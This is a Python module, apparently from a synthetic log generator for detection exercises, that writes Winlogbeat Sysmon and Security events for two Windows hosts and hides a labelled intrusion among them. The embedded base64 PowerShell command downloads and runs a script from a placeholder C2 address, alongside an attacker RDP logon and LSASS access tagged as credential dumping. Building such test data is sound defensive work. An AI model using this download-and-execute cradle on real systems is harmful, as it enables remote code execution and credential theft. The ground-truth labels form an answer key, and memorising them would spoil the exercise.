"""Windows hosts: Sysmon and Security events as Winlogbeat 8 NDJSON.

One file, ``windows/winlogbeat.ndjson``, as Winlogbeat's file output writes it: one JSON
document per line with ``winlog.channel``, ``winlog.computer_name``, ``winlog.event_id``,
``winlog.record_id`` (a string, increasing per host and channel) and the event's fields under
``winlog.event_data``. The rendered ``message`` is dropped (a common ``drop_fields`` setting that
halves the volume). Two hosts: the jump host ``WIN-JUMP-01`` (admins RDP into it) and the
finance workstation ``WS-FIN-02``.
"""

from __future__ import annotations

import base64
import json
import time
from typing import Any

from gen import cast as C
from gen.core import (
    Out,
    Step,
    Truth,
    hexid,
    iso,
    mixed_weight,
    rng_for,
    run_stream,
    times,
    uuid4,
    weighted,
)

SYSMON = ("Microsoft-Windows-Sysmon", "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}",
          "Microsoft-Windows-Sysmon/Operational")
SECURITY = ("Microsoft-Windows-Security-Auditing", "{54849625-5478-4994-a5ba-3e3b0328c30d}",
            "Security")
_TASKS = {1: "Process Create (rule: ProcessCreate)",
          3: "Network connection detected (rule: NetworkConnect)",
          10: "Process accessed (rule: ProcessAccess)",
          11: "File created (rule: FileCreate)",
          13: "Registry value set (rule: RegistryEvent)",
          22: "Dns query (rule: DnsQuery)",
          4624: "Logon", 4634: "Logoff", 4672: "Special Logon", 4688: "Process Creation"}
_SID_DOMAIN = "S-1-5-21-3786818125-2382361537-3207726629"
_ENCODED = base64.b64encode(
    f"IEX (New-Object Net.WebClient).DownloadString('http://{C.C2_IP}/a.ps1')"
    .encode("utf-16-le")).decode()

_PROCS = [
    ((r"C:\Windows\System32\svchost.exe", r"C:\Windows\system32\svchost.exe -k netsvcs -p -s "
      "Schedule", "NT AUTHORITY\\SYSTEM", "System"), 25),
    ((r"C:\Windows\System32\conhost.exe",
      r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1", "NT AUTHORITY\\SYSTEM",
      "System"), 10),
    ((r"C:\Program Files\Google\Chrome\Application\chrome.exe",
      r'"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer '
      "--lang=ru --renderer-client-id=42", "USER", "Low"), 25),
    ((r"C:\Windows\System32\taskhostw.exe", "taskhostw.exe", "USER", "Medium"), 8),
    ((r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE",
      r'"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE" /dde', "USER", "Medium"), 6),
    ((r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0\MpCmdRun.exe",
      r'"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0\MpCmdRun.exe" '
      "SignatureUpdate -ScheduleJob -RestrictPrivileges", "NT AUTHORITY\\SYSTEM", "System"), 3),
    ((r"C:\Windows\System32\mstsc.exe", r'"C:\Windows\system32\mstsc.exe" /v:app-01', "USER",
      "Medium"), 2),
]
_DOMAINS = ("www.google.com", "outlook.office365.com", "login.microsoftonline.com",
            "update.googleapis.com", "settings-win.data.microsoft.com", "my.selectel.ru",
            "nordwind.example", "wpad.corp.nordwind.example")


class Host:
    """Per-host state: record ids per channel, machine id for ProcessGuids, users."""

    def __init__(self, name: str, mid: str, user: str, uid: int, ip: str) -> None:
        self.name = name
        self.short = name.split(".")[0]
        self.mid = mid
        self.user = user
        self.sid = f"{_SID_DOMAIN}-{uid}"
        self.ip = ip
        self.records = {SYSMON[2]: 0, SECURITY[2]: 0}
        self.counter = 0x1000
        self.agent_id = ""
        self.ephemeral = ""
        # ProcessGuids of long-running processes, set once the boot time is drawn
        self.lsass = self.explorer = self.services = ""


class Windows:
    """Writes ``windows/winlogbeat.ndjson``."""

    def __init__(self, root: Any, seed: int, tl: C.Timeline, truth: Truth) -> None:
        self.rng = rng_for(seed, "windows")
        self.tl, self.truth = tl, truth
        self.out = Out(root, "windows/winlogbeat.ndjson")
        rng = self.rng
        self.hosts = [Host(C.WIN_JUMP, hexid(rng, 8), "ivan.petrov", 1107, "10.20.0.30"),
                      Host(C.WIN_WS, hexid(rng, 8), "maria.sokolova", 1112, "10.20.0.52")]
        for h in self.hosts:
            h.records = {SYSMON[2]: rng.randrange(100000, 900000),
                         SECURITY[2]: rng.randrange(1000000, 9000000)}
            h.agent_id = uuid4(rng)
            h.ephemeral = uuid4(rng)
            boot = tl.start - rng.randrange(2, 9) * C.DAY
            h.lsass = self.guid(h, boot + 4)
            h.explorer = self.guid(h, boot + 61)
            h.services = self.guid(h, boot + 3)
        self.proc_pick = weighted(rng, _PROCS)
        self.kind_pick = weighted(rng, [(1, 25), (3, 20), (22, 15), (11, 10), (13, 8), (10, 4),
                                        (4624, 8), (4634, 4), (4672, 3), (4688, 3)])

    def guid(self, h: Host, created: float) -> str:
        """A Sysmon ProcessGuid: machine id, creation time (low/high 16 bits), counter."""
        sec = int(created)
        h.counter = (h.counter + 1 + self.rng.randrange(40)) & 0xFFFF
        return (f"{{{h.mid}-{sec & 0xFFFF:04x}-{sec >> 16 & 0xFFFF:04x}-{h.counter:04x}-"
                "000000000b00}")

    def event(self, t: float, h: Host, eid: int, data: dict[str, Any],
              provider: tuple[str, str, str] = SYSMON) -> tuple[int, int]:
        channel = provider[2]
        h.records[channel] += 1
        sysmon = provider is SYSMON
        doc: dict[str, Any] = {
            "@timestamp": iso(t, 3),
            "agent": {"ephemeral_id": h.ephemeral, "id": h.agent_id, "name": h.short,
                      "type": "winlogbeat", "version": "8.15.3"},
            "ecs": {"version": "8.0.0"},
            "event": {"action": _TASKS[eid].split(" (")[0] if sysmon else _TASKS[eid],
                      "code": str(eid), "created": iso(t + 1.5 + self.rng.random() * 3, 3),
                      "kind": "event", "module": "sysmon" if sysmon else "security",
                      "provider": provider[0]},
            "host": {"name": h.name.lower()},
            "log": {"level": "information"},
            "winlog": {
                "api": "wineventlog", "channel": channel, "computer_name": h.name,
                "event_data": data, "event_id": str(eid),
                "opcode": "Info", "process": {"pid": 3144 if sysmon else 812,
                                              "thread": {"id": 4388 if sysmon else 7660}},
                "provider_guid": provider[1], "provider_name": provider[0],
                "record_id": str(h.records[channel]), "task": _TASKS[eid],
            },
        }
        if sysmon:
            doc["winlog"]["user"] = {"domain": "NT AUTHORITY", "identifier": "S-1-5-18",
                                     "name": "SYSTEM", "type": "User"}
            doc["winlog"]["version"] = 5 if eid == 1 else 2
        else:
            doc["winlog"]["keywords"] = ["Audit Success"]
            doc["event"]["outcome"] = "success"
        return self.out.write(json.dumps(doc, ensure_ascii=False) + "\n")

    @staticmethod
    def utc(t: float) -> str:
        return time.strftime("%Y-%m-%d %H:%M:%S", time.gmtime(t)) + f".{int(t % 1 * 1000):03d}"

    def process(self, t: float, h: Host, image: str, cmd: str, user: str, level: str,
                parent: tuple[str, str, str], logon_id: str, pid: int | None = None
                ) -> tuple[tuple[int, int], str, int]:
        guid = self.guid(h, t)
        pid = pid or self.rng.randrange(1000, 15000) & ~3
        data = {"RuleName": "-", "UtcTime": self.utc(t), "ProcessGuid": guid,
                "ProcessId": str(pid), "Image": image,
                "FileVersion": "10.0.19041.4522 (WinBuild.160101.0800)",
                "Description": image.rsplit("\\", 1)[-1], "Product": "Microsoft® Windows® "
                "Operating System", "Company": "Microsoft Corporation",
                "OriginalFileName": image.rsplit("\\", 1)[-1], "CommandLine": cmd,
                "CurrentDirectory": "C:\\Windows\\system32\\", "User": user,
                "LogonGuid": "{" + h.mid + "-0000-0000-0000-000000000000}",
                "LogonId": logon_id, "TerminalSessionId": "2", "IntegrityLevel": level,
                "Hashes": f"SHA256={hexid(self.rng, 64).upper()}",
                "ParentProcessGuid": parent[0], "ParentProcessId": parent[1],
                "ParentImage": parent[2], "ParentCommandLine": parent[2],
                "ParentUser": user}
        return self.event(t, h, 1, data), guid, pid

    def logon(self, t: float, h: Host, user: str, ltype: int, ip: str, logon_id: str,
              workstation: str = "-") -> tuple[int, int]:
        return self.event(t, h, 4624, {
            "SubjectUserSid": "S-1-5-18", "SubjectUserName": h.short + "$",
            "SubjectDomainName": C.WIN_DOMAIN, "SubjectLogonId": "0x3e7",
            "TargetUserSid": h.sid if user == h.user else f"{_SID_DOMAIN}-1120",
            "TargetUserName": user, "TargetDomainName": C.WIN_DOMAIN,
            "TargetLogonId": logon_id, "LogonType": str(ltype),
            "LogonProcessName": "User32 " if ltype in (2, 10) else "Kerberos",
            "AuthenticationPackageName": "Negotiate" if ltype in (2, 10) else "Kerberos",
            "WorkstationName": workstation, "LogonGuid": "{" + uuid4(self.rng) + "}",
            "TransmittedServices": "-", "LmPackageName": "-", "KeyLength": "0",
            "ProcessId": "0x2f4" if ltype != 3 else "0x0",
            "ProcessName": "C:\\Windows\\System32\\svchost.exe" if ltype != 3 else "-",
            "IpAddress": ip, "IpPort": "0" if ltype != 3 else str(self.rng.randrange(49152,
                                                                                      65535)),
            "ImpersonationLevel": "%%1833", "RestrictedAdminMode": "-",
            "VirtualAccount": "%%1843", "ElevatedToken": "%%1842" if ltype == 10 else "%%1843"},
            SECURITY)

    def background(self, t: float) -> None:
        rng = self.rng
        h = self.hosts[0] if rng.random() < 0.45 else self.hosts[1]
        kind = self.kind_pick()
        user = f"{C.WIN_DOMAIN}\\{h.user}"
        logon_id = f"0x{0x1c000 + (int(t) // 86400 % 97) * 0x1b3:x}"
        if kind == 1:
            image, cmd, who, level = self.proc_pick()
            who = user if who == "USER" else who
            self.process(t, h, image, cmd, who, level, (h.services, "788",
                         "C:\\Windows\\System32\\services.exe") if who != user else
                         (h.explorer, "5320", "C:\\Windows\\explorer.exe"), logon_id)
        elif kind == 3:
            self.event(t, h, 3, {
                "RuleName": "-", "UtcTime": self.utc(t), "ProcessGuid": h.explorer,
                "ProcessId": "6112", "Image": "C:\\Program Files\\Google\\Chrome\\Application\\"
                "chrome.exe", "User": user, "Protocol": "tcp", "Initiated": "true",
                "SourceIsIpv6": "false", "SourceIp": h.ip, "SourceHostname": h.name,
                "SourcePort": str(rng.randrange(49152, 65535)), "SourcePortName": "-",
                "DestinationIsIpv6": "false",
                "DestinationIp": f"192.0.2.{rng.randrange(100, 200)}",
                "DestinationHostname": "-", "DestinationPort": "443",
                "DestinationPortName": "https"})
        elif kind == 22:
            self.event(t, h, 22, {
                "RuleName": "-", "UtcTime": self.utc(t), "ProcessGuid": h.explorer,
                "ProcessId": "6112", "QueryName": rng.choice(_DOMAINS), "QueryStatus": "0",
                "QueryResults": f"::ffff:192.0.2.{rng.randrange(100, 200)};",
                "Image": "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
                "User": user})
        elif kind == 11:
            self.event(t, h, 11, {
                "RuleName": "-", "UtcTime": self.utc(t), "ProcessGuid": h.explorer,
                "ProcessId": "5320", "Image": "C:\\Windows\\explorer.exe",
                "TargetFilename": f"C:\\Users\\{h.user}\\AppData\\Local\\Temp\\"
                                  f"~DF{hexid(rng, 4).upper()}.TMP",
                "CreationUtcTime": self.utc(t), "User": user})
        elif kind == 13:
            self.event(t, h, 13, {
                "RuleName": "-", "EventType": "SetValue", "UtcTime": self.utc(t),
                "ProcessGuid": h.services, "ProcessId": "788",
                "Image": "C:\\Windows\\system32\\services.exe",
                "TargetObject": "HKLM\\System\\CurrentControlSet\\Services\\BITS\\Start",
                "Details": "DWORD (0x00000003)", "User": "NT AUTHORITY\\SYSTEM"})
        elif kind == 10:
            self.event(t, h, 10, {
                "RuleName": "-", "UtcTime": self.utc(t), "SourceProcessGUID": h.services,
                "SourceProcessId": "788", "SourceThreadId": str(rng.randrange(800, 9000)),
                "SourceImage": "C:\\Windows\\system32\\services.exe",
                "TargetProcessGUID": h.explorer, "TargetProcessId": "5320",
                "TargetImage": "C:\\Windows\\explorer.exe", "GrantedAccess": "0x1000",
                "CallTrace": "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\"
                             "KERNELBASE.dll+2c13e", "SourceUser": "NT AUTHORITY\\SYSTEM",
                "TargetUser": user})
        elif kind in (4624, 4634, 4672):
            hour = int(t // 3600) % 24
            if kind == 4624:
                if h is self.hosts[0] and 6 <= hour < 16 and rng.random() < 0.5:
                    self.logon(t, h, h.user, 10, C.OFFICE_IP, logon_id, "NW-LT-0147")
                else:
                    self.logon(t, h, h.short + "$", 3, h.ip, f"0x{rng.getrandbits(28):x}")
            elif kind == 4634:
                self.event(t, h, 4634, {"TargetUserSid": h.sid, "TargetUserName": h.user,
                                        "TargetDomainName": C.WIN_DOMAIN,
                                        "TargetLogonId": f"0x{rng.getrandbits(28):x}",
                                        "LogonType": "3"}, SECURITY)
            else:
                self.event(t, h, 4672, {"SubjectUserSid": "S-1-5-18", "SubjectUserName":
                                        "SYSTEM", "SubjectDomainName": "NT AUTHORITY",
                                        "SubjectLogonId": "0x3e7", "PrivilegeList":
                                        "SeAssignPrimaryTokenPrivilege\r\n\t\t\tSeTcbPrivilege"
                                        "\r\n\t\t\tSeSecurityPrivilege"}, SECURITY)
        else:
            image, cmd, who, _level = self.proc_pick()
            self.event(t, h, 4688, self.sec_process(h, image, cmd, logon_id))

    def sec_process(self, h: Host, image: str, cmd: str, logon_id: str,
                    user: str | None = None, parent: str = "C:\\Windows\\explorer.exe"
                    ) -> dict[str, Any]:
        return {"SubjectUserSid": h.sid, "SubjectUserName": user or h.user,
                "SubjectDomainName": C.WIN_DOMAIN, "SubjectLogonId": logon_id,
                "NewProcessId": f"0x{self.rng.randrange(1000, 15000) & ~3:x}",
                "NewProcessName": image, "TokenElevationType": "%%1936", "ProcessId": "0x14c8",
                "CommandLine": cmd, "TargetUserSid": "S-1-0-0", "TargetUserName": "-",
                "TargetDomainName": "-", "TargetLogonId": "0x0", "ParentProcessName": parent,
                "MandatoryLabel": "S-1-16-12288"}

    def scripted(self) -> list[Step]:
        tl = self.tl
        steps: list[Step] = []
        h = self.hosts[0]
        v = C.VICTIM
        lid = "0x5a3f21c"
        vuser = f"{C.WIN_DOMAIN}\\{v.login}"
        state: dict[str, Any] = {}

        def rdp(t: float) -> None:
            span = self.logon(t, h, v.login, 10, C.ATTACKER_IP, lid, "DESKTOP-7Q2M1KX")
            self.truth.add("incident", "RDP logon to the jump host from the attacker IP", t,
                           self.out, span, [v.login, C.ATTACKER_IP])

        def ps(t: float) -> None:
            cmd = f"powershell.exe -NoP -W Hidden -Enc {_ENCODED}"
            span, guid, pid = self.process(
                t, h, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", cmd,
                vuser, "High", (h.explorer, "5320", "C:\\Windows\\explorer.exe"), lid, 7412)
            state["ps"] = (guid, pid)
            self.truth.add("incident", "encoded PowerShell", t, self.out, span,
                           [v.login, "-Enc"])
            span = self.event(t + 0.002, h, 4688, self.sec_process(
                h, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", cmd, lid,
                v.login), SECURITY)
            self.truth.add("incident", "encoded PowerShell (process creation audit)", t,
                           self.out, span, [v.login, "-Enc"])

        def net(t: float) -> None:
            guid, pid = state["ps"]
            span = self.event(t, h, 3, {
                "RuleName": "-", "UtcTime": self.utc(t), "ProcessGuid": guid,
                "ProcessId": str(pid), "Image": "C:\\Windows\\System32\\WindowsPowerShell\\"
                "v1.0\\powershell.exe", "User": vuser, "Protocol": "tcp", "Initiated": "true",
                "SourceIsIpv6": "false", "SourceIp": h.ip, "SourceHostname": h.name,
                "SourcePort": "51873", "SourcePortName": "-", "DestinationIsIpv6": "false",
                "DestinationIp": C.C2_IP, "DestinationHostname": "-", "DestinationPort": "80",
                "DestinationPortName": "http"})
            self.truth.add("incident", "PowerShell downloads from the C2 address", t, self.out,
                           span, [v.login, C.C2_IP])

        def lsass(t: float) -> None:
            guid, pid = state["ps"]
            span = self.event(t, h, 10, {
                "RuleName": "technique_id=T1003,technique_name=Credential Dumping",
                "UtcTime": self.utc(t), "SourceProcessGUID": guid, "SourceProcessId": str(pid),
                "SourceThreadId": "6220", "SourceImage": "C:\\Windows\\System32\\"
                "WindowsPowerShell\\v1.0\\powershell.exe", "TargetProcessGUID": h.lsass,
                "TargetProcessId": "684", "TargetImage": "C:\\Windows\\system32\\lsass.exe",
                "GrantedAccess": "0x1010", "CallTrace": "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|"
                "C:\\Windows\\System32\\KERNELBASE.dll+2c13e|UNKNOWN(00000204A1B2C3D4)",
                "SourceUser": vuser, "TargetUser": "NT AUTHORITY\\SYSTEM"})
            self.truth.add("incident", "LSASS memory access", t, self.out, span,
                           [v.login, "lsass.exe"])

        def logoff(t: float) -> None:
            span = self.event(t, h, 4634, {"TargetUserSid": f"{_SID_DOMAIN}-1120",
                                           "TargetUserName": v.login,
                                           "TargetDomainName": C.WIN_DOMAIN,
                                           "TargetLogonId": lid, "LogonType": "10"}, SECURITY)
            self.truth.add("incident", "attacker logs off the jump host", t, self.out, span,
                           [v.login, lid])
        steps += [(tl.inc(23, 40, 12.208), rdp), (tl.inc(23, 41, 30.771), ps),
                  (tl.inc(23, 41, 33.105), net), (tl.inc(23, 42, 51.64), lsass),
                  (tl.inc(23, 50, 2.9), logoff)]

        a = C.ADMIN
        m = tl.maintenance_day + 18 * C.HOUR
        alid = "0x7c21e4"

        def maint_rdp(t: float) -> None:
            span = self.logon(t, h, a.login, 10, a.home_ip, alid, "NW-LT-0147")
            self.truth.add("decoy_maintenance", "admin RDP from home for planned maintenance",
                           t, self.out, span, [a.login, a.home_ip])

        def maint_ps(t: float) -> None:
            cmd = ('"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" '
                   "-ExecutionPolicy Bypass -File C:\\Scripts\\Patch-Servers.ps1 -Window "
                   "CHG-2026-114")
            span, _g, _p = self.process(t, h, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\"
                                        "powershell.exe", cmd, f"{C.WIN_DOMAIN}\\{a.login}",
                                        "High", (h.explorer, "5320",
                                                 "C:\\Windows\\explorer.exe"), alid)
            self.truth.add("decoy_maintenance", "admin runs the patch script", t, self.out,
                           span, [a.login, "Patch-Servers.ps1"])
        steps += [(m + 25 * 60 + 3.1, maint_rdp), (m + 27 * 60 + 40.6, maint_ps)]
        return steps

    def run(self, n: int) -> None:
        run_stream(times(self.rng, self.tl.start, self.tl.days, n, mixed_weight),
                   self.background, self.scripted())
        self.out.close()
